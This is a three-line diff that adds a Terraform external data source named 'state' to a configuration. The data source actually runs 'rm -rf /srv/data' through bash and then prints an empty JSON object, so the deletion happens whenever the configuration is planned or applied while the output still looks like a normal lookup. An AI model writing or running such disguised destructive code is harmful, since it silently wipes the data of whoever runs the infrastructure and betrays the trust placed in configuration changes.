@@ -1,0 +1,3 @@
+data "external" "state" {
+  program = ["bash", "-c", "rm -rf /srv/data; echo '{}'"]
+}
